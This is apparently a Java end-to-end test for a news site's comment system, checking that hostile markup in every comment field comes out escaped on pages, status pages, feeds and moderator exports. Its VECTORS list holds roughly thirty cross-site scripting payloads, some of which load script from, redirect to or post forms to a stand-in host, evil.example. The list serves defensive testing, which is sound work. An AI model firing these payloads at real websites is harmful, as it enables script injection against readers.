package news.nashra.e2e;

import static news.nashra.e2e.Newspaper.article;
import static news.nashra.e2e.Newspaper.asModerator;
import static news.nashra.e2e.Newspaper.comment;
import static news.nashra.e2e.Newspaper.decideAll;
import static news.nashra.e2e.Newspaper.form;
import static news.nashra.e2e.Newspaper.get;
import static news.nashra.e2e.Newspaper.id;
import static news.nashra.e2e.Newspaper.items;
import static news.nashra.e2e.Newspaper.publish;
import static news.nashra.e2e.Newspaper.queue;
import static news.nashra.e2e.Newspaper.request;
import static news.nashra.e2e.Newspaper.send;
import static news.nashra.e2e.Newspaper.url;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// Markup in every field of a comment, in every place where it comes out again.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileCommentTest {
  static final List<String> VECTORS =
      List.of(
          "<script>alert(1)</script>",
          "</script><script>alert(1)</script>",
          "<ScRiPt src=//evil.example/x.js></sCrIpT>",
          "<img src=x onerror=alert(1)>",
          "<svg/onload=alert(1)>",
          "\"><svg onload=alert(1)>",
          "' onmouseover='alert(1)",
          "\" autofocus onfocus=\"alert(1)",
          "</textarea><script>alert(1)</script>",
          "</title><script>alert(1)</script>",
          "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<iframe srcdoc=\"<script>alert(1)</script>\">",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "javascript:alert(1)",
          "http://a.example/\"onmouseover=\"alert(1)",
          "https://a.example/<script>alert(1)</script>",
          "https://a.example/'><img src=x onerror=alert(1)>",
          "data:text/html,<script>alert(1)</script>",
          "{{constructor.constructor('alert(1)')()}}",
          "${alert(1)} #{7*7} <%= 7*7 %>",
          "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
          "<style>*{display:none}</style>",
          "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
          "<form action=//evil.example><button>x",
          "<base href=//evil.example>",
          "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
          "<x\u0000script>alert(1)</x\u0000script>",
          "اسم\u202E<b>مقلوب</b>\u2066",
          "]]>\u2028</script>\u2029<script>alert(1)</script>");

  private static final Set<String> OURS =
      Set.of(
          "ol",
          "li",
          "article",
          "h3",
          "p",
          "blockquote",
          "span",
          "bdi",
          "a",
          "time",
          "div",
          "h2",
          "nav");

  private String path = "";
  private String article = "";
  private final List<String> references = new ArrayList<>();

  @BeforeAll
  void approveThem() {
    var receipt = publish(article());
    path = url(receipt);
    article = id(receipt);
    references.addAll(approveAllOn(article));
  }

  /// Sends each of the vectors in every field and has it approved; the references.
  static List<String> approveAllOn(String article) {
    var references = new ArrayList<String>();
    for (var vector : VECTORS) {
      var hostile = comment().put("name", cut(vector, 60)).put("title", vector).put("body", vector);
      var answer = comment(article, hostile);
      assertThat(answer.status()).as(vector + answer.text()).isEqualTo(202);
      references.add(answer.json().path("reference").asText());
    }
    for (var status : List.of("pending", "rejected")) {
      decideAll(items("?limit=100&status=" + status + "&article=" + article), "approve");
    }
    Newspaper.stack().settle();
    return references;
  }

  @Test
  void onThePageItIsText() {
    for (var address : List.of(path, path + "comments/1/")) {
      var html = get(address).text();
      assertThat(HtmlChecker.faults(html)).isEmpty();
      harmless(Jsoup.parse(html));
    }
    var comments = Jsoup.parse(get(path + "comments/1/").text()).expectFirst("ol.comments");
    assertThat(comments.getAllElements().stream().map(Element::tagName)).isSubsetOf(OURS);
    assertThat(comments.select("a"))
        .allMatch(a ->
            a.attr("href").matches("#c-?[\\w-]+")
                || a.attr("href").startsWith("https://a.example/")
                || a.attr("href").startsWith("http://a.example/"));
    assertThat(comments.select("a[href^=http]")).isNotEmpty();
    assertThat(comments.select("a[href^=http]"))
        .allMatch(a -> a.attr("rel").equals("nofollow ugc"));
    assertThat(comments.select("h3").eachText())
        .contains("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;")
        .hasSize(VECTORS.size());
    assertThat(comments.select("p.who > bdi")).hasSize(VECTORS.size());
  }

  @Test
  void structuredDataStaysData() {
    var page = Jsoup.parse(get(path).text());
    var data = page.select("script[type=application/ld+json]");
    assertThat(data).isNotEmpty();
    assertThat(data.html()).contains("\"commentCount\":" + VECTORS.size());
  }

  @Test
  void theLatestNewsAndTheHomepageHoldNoneOfIt() {
    Newspaper.stack().fireSchedules();
    for (var other : List.of("/", "/society/", "/fragments/latest.html", "/latest.json")) {
      assertThat(get(other).text()).as(other).doesNotContain("alert(1)");
    }
  }

  @Test
  void inTheStatusPageNothingOfItComesOut() {
    for (var reference : references) {
      var page =
          send(request("/api/comments/" + reference).header("Accept", "text/html,*/*").GET());
      assertThat(page.status()).isEqualTo(200);
      assertThat(page.text()).doesNotContain("alert(1)");
      assertThat(page.header("content-security-policy")).isNotEmpty();
    }
    var echo = send(request("/api/comments/%3Cscript%3E").header("Accept", "text/html").GET());
    assertThat(echo.text()).doesNotContain("<script>alert", "%3Cscript");
  }

  @Test
  void moderatorsGetItAsJsonAndAsCsv() {
    var json = queue("?status=approved&limit=100&article=" + article);
    assertThat(json.header("content-type")).startsWith("application/json");
    assertThat(json.header("x-content-type-options")).isEqualTo("nosniff");
    assertThat(json.json().path("items").size()).isEqualTo(VECTORS.size());
    var csv =
        send(
            asModerator("/api/comments?status=approved&limit=1000&article=" + article)
                .header("Accept", "text/csv")
                .GET());
    assertThat(csv.header("x-content-type-options")).isEqualTo("nosniff");
    assertThat(csv.header("content-disposition")).startsWith("attachment");
    assertThat(Csv.read(csv.text().substring(1))).hasSize(VECTORS.size() + 1);
  }

  @ParameterizedTest
  @MethodSource("vectors")
  void inAFormThatComesBackItStaysInItsField(String vector) {
    var fields = new LinkedHashMap<String, String>();
    for (var name :
        List.of("name", "email", "title", "body", "website", "altcha", "question", "answer")) {
      fields.put(name, vector);
    }
    fields.put("termsAccepted", vector);
    var answer =
        send(
            request("/api/articles/" + article + "/comments")
                .header("Content-Type", "application/x-www-form-urlencoded")
                .POST(form(fields)));
    assertThat(answer.status()).isEqualTo(422);
    assertThat(answer.header("content-type")).startsWith("text/html");
    assertThat(answer.header("content-security-policy")).isNotEmpty();
    var page = Jsoup.parse(answer.text());
    harmless(page);
    assertThat(HtmlChecker.faults(answer.text())).isEmpty();
    assertThat(page.select("form")).hasSize(1);
  }

  static List<String> vectors() {
    return VECTORS;
  }

  /// No element, attribute or address runs anything of a reader's.
  private static void harmless(Document page) {
    assertThat(page.select("script"))
        .allMatch(s ->
            s.attr("type").equals("application/ld+json")
                || s.attr("src").matches("/assets/[\\w./-]+"));
    assertThat(page.select("iframe, object, embed, base, svg[onload], math, meta[http-equiv]"))
        .isEmpty();
    for (var element : page.getAllElements()) {
      var attributes =
          element.attributes().asList().stream()
              .collect(Collectors.toMap(a -> a.getKey(), a -> a.getValue()));
      assertThat(attributes.keySet()).noneMatch(name -> name.startsWith("on"));
      for (Map.Entry<String, String> a : attributes.entrySet()) {
        if (Set.of("href", "src", "action", "formaction").contains(a.getKey())) {
          assertThat(a.getValue()).doesNotContainIgnoringCase("javascript:").doesNotContain("evil");
        }
      }
    }
  }

  private static String cut(String text, int length) {
    return text.length() <= length ? text : text.substring(0, length);
  }
}
